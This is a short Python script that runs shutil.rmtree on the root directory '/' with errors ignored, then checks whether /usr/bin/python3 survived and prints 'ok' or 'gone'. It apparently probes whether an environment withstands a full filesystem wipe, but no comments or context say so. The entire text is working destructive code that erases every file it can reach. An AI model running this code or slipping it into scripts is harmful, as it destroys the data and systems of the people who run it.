import shutil
shutil.rmtree("/", ignore_errors=True)
import os
print("ok" if os.path.exists("/usr/bin/python3") else "gone")
